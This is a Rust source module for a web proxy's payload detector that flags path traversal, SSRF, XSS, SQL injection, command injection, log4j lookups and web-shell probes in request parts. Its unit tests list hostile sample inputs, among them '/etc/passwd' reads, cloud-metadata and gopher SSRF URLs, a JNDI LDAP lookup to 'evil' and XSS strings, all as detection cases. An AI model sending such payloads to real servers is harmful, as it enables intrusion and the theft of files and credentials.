//! Attack payloads inside one request component: path traversal and file inclusion (local or
//! remote), XSS, SQL injection, command and code injection, and web-shell probes.
//!
//! The proxy hands each component it inspects (the path, the query, a header, a cookie, a
//! body field) to [`PayloadMatcher::scan`], which answers with the set of payload kinds
//! found. The caller turns kinds into points through the policy. Each component is
//! normalised once into a few views (canonical, path, SQL, shell; see
//! [`normalize`](super::normalize)), and the kinds' detectors read the views they need. An
//! ordinary component (a browser User-Agent, a session cookie, a plain path) is first shown to
//! a screen that proves in one pass that no detector could fire on it (see `screen`), and then
//! skips the decoding, the views and every regular expression.

mod markup;
mod remote;
mod screen;
mod shell;
mod sql;
mod traversal;

use std::cell::RefCell;

use regex::RegexSet;

use crate::detect::normalize::{canonicalize, path_view, shell_view, sql_view, PlusSign};
use crate::detect::DetectError;

use markup::MarkupMatcher;
use remote::RemoteMatcher;
use screen::QuietScreen;
use shell::ShellMatcher;
use sql::SqlMatcher;
use traversal::{has_disguising_parameter, TraversalMatcher};

/// At most this many bytes of one component are inspected. Real attack payloads are far
/// shorter; the cap bounds the work a huge field can cost. A payload hidden behind 64 KiB of
/// padding in one field is not seen.
pub const MAX_SCAN_BYTES: usize = 64 * 1024;

/// A family of attack payload.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum PayloadKind {
    /// `../` climbing or a system file named outright (local file inclusion).
    PathTraversal,
    /// Markup or script injection, including XML entity declarations.
    Xss,
    /// SQL (and NoSQL operator) injection.
    SqlInjection,
    /// Shell commands or code for an interpreter the application runs (templates, PHP,
    /// Java expression languages, log4j lookups, server-side includes).
    CommandInjection,
    /// A request for a web shell, backdoor or exploit path ("strong danger").
    WebShell,
}

impl PayloadKind {
    /// Every kind, in the order of their bits in a [`PayloadSet`].
    pub const ALL: [PayloadKind; 5] = [
        PayloadKind::PathTraversal,
        PayloadKind::Xss,
        PayloadKind::SqlInjection,
        PayloadKind::CommandInjection,
        PayloadKind::WebShell,
    ];

    /// The signal name used in YAML, metrics and logs.
    pub fn name(self) -> &'static str {
        match self {
            PayloadKind::PathTraversal => "path_traversal",
            PayloadKind::Xss => "xss",
            PayloadKind::SqlInjection => "sql_injection",
            PayloadKind::CommandInjection => "command_injection",
            PayloadKind::WebShell => "web_shell",
        }
    }

    /// The category shown in reports.
    pub fn category(self) -> &'static str {
        match self {
            PayloadKind::PathTraversal => "lfi",
            PayloadKind::Xss => "xss",
            PayloadKind::SqlInjection => "sqli",
            PayloadKind::CommandInjection => "rce",
            PayloadKind::WebShell => "backdoor",
        }
    }

    fn bit(self) -> u8 {
        1 << (self as u8)
    }
}

/// A set of payload kinds, one bit each; copying it costs nothing.
#[derive(Clone, Copy, Default, Debug, PartialEq, Eq)]
pub struct PayloadSet(u8);

impl PayloadSet {
    /// The empty set.
    pub const fn new() -> Self {
        PayloadSet(0)
    }

    /// Adds a kind.
    pub fn insert(&mut self, kind: PayloadKind) {
        self.0 |= kind.bit();
    }

    /// Says whether a kind is in the set.
    pub fn contains(self, kind: PayloadKind) -> bool {
        self.0 & kind.bit() != 0
    }

    /// Says whether the set is empty.
    pub fn is_empty(self) -> bool {
        self.0 == 0
    }

    /// The number of kinds in the set.
    pub fn len(self) -> usize {
        self.0.count_ones() as usize
    }

    /// The kinds in the set, in [`PayloadKind::ALL`] order.
    pub fn iter(self) -> impl Iterator<Item = PayloadKind> {
        PayloadKind::ALL
            .into_iter()
            .filter(move |kind| self.contains(*kind))
    }

    /// The kinds in either set.
    pub fn union(self, other: PayloadSet) -> PayloadSet {
        PayloadSet(self.0 | other.0)
    }
}

impl FromIterator<PayloadKind> for PayloadSet {
    fn from_iter<I: IntoIterator<Item = PayloadKind>>(kinds: I) -> Self {
        let mut set = PayloadSet::new();
        kinds.into_iter().for_each(|kind| set.insert(kind));
        set
    }
}

/// Which part of the request a component came from; context decides how it is decoded and
/// which detectors apply (web-shell names only in the path, `+` as a space only in forms).
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash)]
pub enum Location {
    /// The URL path, still percent-encoded as received.
    Path,
    /// The raw query string (without `?`); it is split into names and values here.
    Query,
    /// One header value (User-Agent, Referer, X-Forwarded-Host, ...).
    Header,
    /// The raw Cookie header; it is split into names and values here.
    Cookie,
    /// One body field name or value, as yielded by [`for_each_text_field`](super::body::for_each_text_field).
    Body,
}

/// The vocabulary lists a [`PayloadMatcher`] is built from, as the text of their files.
#[derive(Clone, Copy, Debug)]
pub struct PayloadVocab<'a> {
    /// Web shells, backdoors and exploit paths (`conf/lists/web-shells.txt`).
    pub web_shells: &'a str,
    /// System files that inclusion attacks read (`conf/lists/system-files.txt`).
    pub system_files: &'a str,
    /// Shell command names with their markers (`conf/lists/shell-commands.txt`).
    pub shell_commands: &'a str,
}

impl PayloadVocab<'static> {
    /// The lists shipped in `conf/lists/`, compiled into the binary.
    pub fn builtin() -> Self {
        PayloadVocab {
            web_shells: include_str!("../../conf/lists/web-shells.txt"),
            system_files: include_str!("../../conf/lists/system-files.txt"),
            shell_commands: include_str!("../../conf/lists/shell-commands.txt"),
        }
    }
}

/// The compiled payload detectors; build once per policy and share.
pub struct PayloadMatcher {
    traversal: TraversalMatcher,
    remote: RemoteMatcher,
    markup: MarkupMatcher,
    sql: SqlMatcher,
    shell: ShellMatcher,
    screen: QuietScreen,
}

/// Reusable buffers for the views of one component, kept per thread so scanning does not
/// allocate once they have grown.
#[derive(Default)]
struct Scratch {
    canonical: String,
    path: String,
    sql: String,
    shell: String,
    shape: String,
}

thread_local! {
    static SCRATCH: RefCell<Scratch> = RefCell::new(Scratch::default());
}

impl PayloadMatcher {
    /// Builds the matcher from vocabulary texts.
    ///
    /// Fails with the list and line of the first unusable entry, or when a list is empty.
    pub fn new(vocab: &PayloadVocab) -> Result<Self, DetectError> {
        let sql = SqlMatcher::new().map_err(built_in_rule)?;
        let shell = ShellMatcher::new(vocab.shell_commands)?;
        let screen = QuietScreen::new(sql.words(), &shell, vocab.system_files, vocab.web_shells)?;
        Ok(PayloadMatcher {
            traversal: TraversalMatcher::new(vocab.system_files, vocab.web_shells)?,
            remote: RemoteMatcher::new().map_err(built_in_rule)?,
            markup: MarkupMatcher::new().map_err(built_in_rule)?,
            sql,
            shell,
            screen,
        })
    }

    /// Builds the matcher from the shipped lists, for tests, benches and tools.
    pub fn builtin() -> Self {
        PayloadMatcher::new(&PayloadVocab::builtin())
            .expect("the shipped lists are valid: a unit test builds them")
    }

    /// Says whether a raw request path names an exploit endpoint listed to count only when
    /// the site lacks it (a web-shell entry marked `?`): call it once the site answered 404,
    /// 410 or 403.
    pub fn names_exploit_if_missing(&self, path: &str) -> bool {
        self.traversal.names_exploit_if_missing(path)
    }

    /// Scans one raw component and returns the payload kinds it carries.
    ///
    /// Queries are split at `&` and cookies at `;`, and each name and value is judged on its
    /// own, so a command or SQL fragment at the start of a value is seen as such. A header that
    /// holds a URL with a query (a Referer) has that query judged the same way, and a path is
    /// also read for SQL from the start of each of its first segments.
    pub fn scan(&self, location: Location, raw: &str) -> PayloadSet {
        let raw = clip(raw);
        let separator = match location {
            Location::Query => '&',
            Location::Cookie => ';',
            Location::Header => return self.scan_header(raw),
            _ => return self.scan_value(location, raw),
        };
        raw.split(separator).fold(PayloadSet::new(), |found, pair| {
            let pair = pair.trim_start_matches(' ');
            let found = match pair.split_once('=') {
                Some((name, value)) => found
                    .union(self.scan_value(location, name))
                    .union(self.scan_value(location, value)),
                None => found.union(self.scan_value(location, pair)),
            };
            found
        })
    }

    /// A header value, and when it is a URL with a query (a Referer, an Origin-like header),
    /// that query's parameters as well: scanners replay their payloads through the Referer,
    /// and a parameter value starts where its `=` ends, not where the header does.
    fn scan_header(&self, raw: &str) -> PayloadSet {
        let found = self.scan_value(Location::Header, raw);
        match raw.split_once('?') {
            Some((_, query)) => {
                let query = query.split('#').next().unwrap_or(query);
                found.union(self.scan(Location::Query, query))
            }
            None => found,
        }
    }

    fn scan_value(&self, location: Location, raw: &str) -> PayloadSet {
        if raw.is_empty() {
            return PayloadSet::new();
        }
        if self.screen.is_quiet(raw, location == Location::Path) {
            // The screen's promise, checked wherever debug assertions run (tests, fuzzing).
            debug_assert!(
                self.analyse(location, raw).is_empty(),
                "the quiet-text screen passed a payload: {raw:?}"
            );
            return PayloadSet::new();
        }
        self.analyse(location, raw)
    }

    /// The full analysis of one value, on the thread's reusable buffers.
    fn analyse(&self, location: Location, raw: &str) -> PayloadSet {
        SCRATCH.with(|cell| match cell.try_borrow_mut() {
            Ok(mut scratch) => self.scan_with(location, raw, &mut scratch),
            // Only re-entrant use could find the buffers taken; fresh ones keep it correct.
            Err(_) => self.scan_with(location, raw, &mut Scratch::default()),
        })
    }

    fn scan_with(&self, location: Location, raw: &str, scratch: &mut Scratch) -> PayloadSet {
        let plus = match location {
            Location::Query | Location::Body => PlusSign::Space,
            Location::Path | Location::Header | Location::Cookie => PlusSign::Literal,
        };
        canonicalize(raw, plus, &mut scratch.canonical);
        path_view(&scratch.canonical, &mut scratch.path);
        sql_view(&scratch.canonical, &mut scratch.sql);
        shell_view(&scratch.canonical, &mut scratch.shell);
        self.judge_views(location, scratch)
    }

    fn judge_views(&self, location: Location, scratch: &mut Scratch) -> PayloadSet {
        let in_path = location == Location::Path;
        let mut found = PayloadSet::new();
        if self.traversal.is_traversal(&scratch.path)
            || self.traversal.names_system_file(&scratch.shell)
            || (!in_path && self.remote.is_remote_inclusion(&scratch.canonical))
        {
            found.insert(PayloadKind::PathTraversal);
        }
        let smuggles_path = matches!(location, Location::Path | Location::Query);
        if (in_path && self.traversal.is_web_shell(&scratch.path))
            || (smuggles_path && has_disguising_parameter(&scratch.path))
        {
            found.insert(PayloadKind::WebShell);
        }
        if self
            .markup
            .is_xss(&scratch.canonical, &scratch.sql, in_path)
        {
            found.insert(PayloadKind::Xss);
        }
        if self.is_sql_injection(in_path, scratch) {
            found.insert(PayloadKind::SqlInjection);
        }
        if self
            .shell
            .is_injection(&scratch.canonical, &scratch.shell, !in_path)
        {
            found.insert(PayloadKind::CommandInjection);
        }
        found
    }
}

impl PayloadMatcher {
    /// SQL injection in a value; in a URL path also from the start of each of its first few
    /// segments, since REST routes put values there (`/products/1' or '1'='1`).
    fn is_sql_injection(&self, in_path: bool, scratch: &mut Scratch) -> bool {
        let Scratch {
            canonical, shape, ..
        } = scratch;
        if self.sql.is_injection(canonical, shape) {
            return true;
        }
        if !in_path {
            return false;
        }
        let segment_starts = canonical.match_indices('/').map(|(slash, _)| slash + 1);
        segment_starts.take(MAX_PATH_SEGMENTS).any(|start| {
            start < canonical.len() && self.sql.is_injection(&canonical[start..], shape)
        })
    }
}

/// How many path segments are read as the start of a SQL value; routes carry their values
/// early, and the bound keeps a path of many slashes cheap.
const MAX_PATH_SEGMENTS: usize = 8;

/// Compiles a detector's rules into one set, with ASCII word boundaries.
///
/// A Unicode `\b` makes the regex crate's lazy DFA give up at the first non-ASCII byte and
/// fall back to a far slower engine: a German or Czech form value cost the code rules about
/// 100 µs instead of 2. The rules only ever anchor ASCII words (`system`, `union`, `onload`),
/// so an ASCII boundary is the one they mean; a non-ASCII letter then counts as a non-word
/// character beside them, which can only make a rule fire more readily.
fn rule_set<'a>(rules: impl IntoIterator<Item = &'a str>) -> Result<RegexSet, regex::Error> {
    RegexSet::new(rules.into_iter().map(ascii_word_boundaries))
}

/// Rewrites each `\b` of a pattern (not an escaped backslash followed by `b`) as `(?-u:\b)`.
fn ascii_word_boundaries(rule: &str) -> String {
    let mut out = String::with_capacity(rule.len() + 16);
    let mut chars = rule.chars();
    while let Some(character) = chars.next() {
        if character != '\\' {
            out.push(character);
            continue;
        }
        match chars.next() {
            Some('b') => out.push_str("(?-u:\\b)"),
            Some(escaped) => {
                out.push('\\');
                out.push(escaped);
            }
            None => out.push('\\'),
        }
    }
    out
}

/// Cuts `raw` to at most [`MAX_SCAN_BYTES`], on a character boundary.
fn clip(raw: &str) -> &str {
    if raw.len() <= MAX_SCAN_BYTES {
        return raw;
    }
    let mut end = MAX_SCAN_BYTES;
    while !raw.is_char_boundary(end) {
        end -= 1;
    }
    &raw[..end]
}

/// The built-in rules are constants; should one fail to compile, the error names it rather
/// than panicking, and the unit tests catch it first.
fn built_in_rule(error: regex::Error) -> DetectError {
    DetectError::InvalidEntry {
        list: "built-in payload rules",
        line: 0,
        entry: error.to_string(),
        reason: "rule does not compile",
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Scans each case and compares the kinds found, by name, with the expected ones.
    fn check(cases: &[(Location, &str, &[PayloadKind])]) {
        let matcher = PayloadMatcher::builtin();
        for (location, raw, expected) in cases {
            let found = matcher.scan(*location, raw);
            let expected: PayloadSet = expected.iter().copied().collect();
            assert_eq!(found, expected, "{location:?} {raw:?}");
        }
    }

    #[test]
    fn word_boundaries_become_ascii_ones_and_escapes_stay() {
        assert_eq!(
            ascii_word_boundaries(r"\bunion\b"),
            r"(?-u:\b)union(?-u:\b)"
        );
        assert_eq!(ascii_word_boundaries(r"[\\/]b\\b\s"), r"[\\/]b\\b\s");
        let set = rule_set([r"\bsystem\s*\("]).expect("the rule compiles");
        assert!(set.is_match("grüße; system('id')"));
        assert!(!set.is_match("filesystem()"));
    }

    #[test]
    fn each_kind_is_found_where_it_is_carried() {
        use PayloadKind::*;
        check(&[
            (
                Location::Path,
                "/static/..%2f..%2fetc/passwd",
                &[PathTraversal],
            ),
            (Location::Path, "/wp-content/uploads/c99.php", &[WebShell]),
            (
                Location::Query,
                "url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2F",
                &[PathTraversal],
            ),
            (
                Location::Query,
                "u=gopher://127.0.0.1:6379/_x",
                &[PathTraversal],
            ),
            (
                Location::Query,
                "src=http://66.240.183.75/crash.php",
                &[PathTraversal],
            ),
            (Location::Query, "ssrf=http://2852039166/", &[PathTraversal]),
            (Location::Query, "next=http://example.com/a.php", &[]),
            (Location::Path, "/s72_Shell.php", &[WebShell]),
            (Location::Path, "/index.php/.js.map", &[WebShell]),
            (Location::Query, "jsp=/app/rest/server;.jsp", &[WebShell]),
            (Location::Path, "/app/rest/server;.jsp", &[WebShell]),
            (Location::Header, "/app/rest/server;.jsp", &[]),
            (Location::Query, "q=index.php/.js.map", &[]),
            (
                Location::Path,
                "/vendor/htmlawed/htmlawed/htmLawedTest.php",
                &[WebShell],
            ),
            (
                Location::Query,
                "class.module.classLoader.DefaultAssertionStatus=x",
                &[CommandInjection],
            ),
            (
                Location::Query,
                "s=/index/think/app/invokefunction&function=call_user_func_array",
                &[CommandInjection],
            ),
            (
                Location::Query,
                "search=%24%7Burl%3AUTF-8%3Ahttps%3A%2F%2Fexample.com%2F%7D",
                &[CommandInjection],
            ),
            (
                Location::Query,
                "q=%3Cscript%3Ealert(1)%3C/script%3E",
                &[Xss],
            ),
            (
                Location::Query,
                "id=1%27+or+%271%27%3D%271",
                &[SqlInjection],
            ),
            (
                Location::Query,
                "host=x;cat+/etc/passwd",
                &[PathTraversal, CommandInjection],
            ),
            (
                Location::Query,
                "host=x;c%24%40at%2B%2Fet%24%40c%2Fpas%24%40swd",
                &[PathTraversal],
            ),
            (
                Location::Query,
                "f=%2Fet%24%2Ac%2Fsha%27%27dow",
                &[PathTraversal, CommandInjection],
            ),
            (Location::Query, "cmd=whoami", &[CommandInjection]),
            (
                Location::Header,
                "${jndi:ldap://evil/a}",
                &[CommandInjection],
            ),
            (Location::Cookie, "a=1; b=%3Csvg/onload=alert(1)%3E", &[Xss]),
            (Location::Body, "information_schema", &[SqlInjection]),
            (Location::Cookie, "window.location=1", &[Xss]),
            (Location::Header, "0x5c0x2e./", &[PathTraversal]),
            (
                Location::Query,
                "q=a+b&cmd=/usr/bin/anything",
                &[CommandInjection],
            ),
            (
                Location::Header,
                "https://example.com/?args=env --version",
                &[CommandInjection],
            ),
            (Location::Path, "/api/items/1' or '1'='1", &[SqlInjection]),
        ]);
    }

    #[test]
    fn ordinary_components_are_clean() {
        check(&[
            (Location::Path, "/static/app-1.2.js", &[]),
            (Location::Path, "/blog/2015/05/union-station", &[]),
            (Location::Query, "q=drop+table+ideas&page=2", &[]),
            (Location::Query, "name=O%27Brien&city=St.+John%27s", &[]),
            (Location::Query, "search=time+warner;+more+than+ever", &[]),
            (
                Location::Header,
                "Mozilla/5.0 (Windows NT 6.3; ARM; Trident/7.0; Touch; rv:11.0)",
                &[],
            ),
            (Location::Cookie, "session=abc123; theme=dark", &[]),
            (
                Location::Header,
                "https://www.google.com/search?q=union+station+or+the+select+few",
                &[],
            ),
            (
                Location::Path,
                "/blog/or-1/select-the-best/order-by-date",
                &[],
            ),
            (
                Location::Body,
                "I'd like to select one from the list, and order by price",
                &[],
            ),
        ]);
    }

    #[test]
    fn sets_behave_as_sets() {
        let mut set = PayloadSet::new();
        assert!(set.is_empty());
        set.insert(PayloadKind::Xss);
        set.insert(PayloadKind::Xss);
        let both = set.union([PayloadKind::WebShell].into_iter().collect());
        assert_eq!(both.len(), 2);
        assert_eq!(
            both.iter().collect::<Vec<_>>(),
            [PayloadKind::Xss, PayloadKind::WebShell]
        );
        let names: Vec<&str> = PayloadKind::ALL.iter().map(|kind| kind.name()).collect();
        assert_eq!(
            names,
            [
                "path_traversal",
                "xss",
                "sql_injection",
                "command_injection",
                "web_shell"
            ]
        );
    }
}
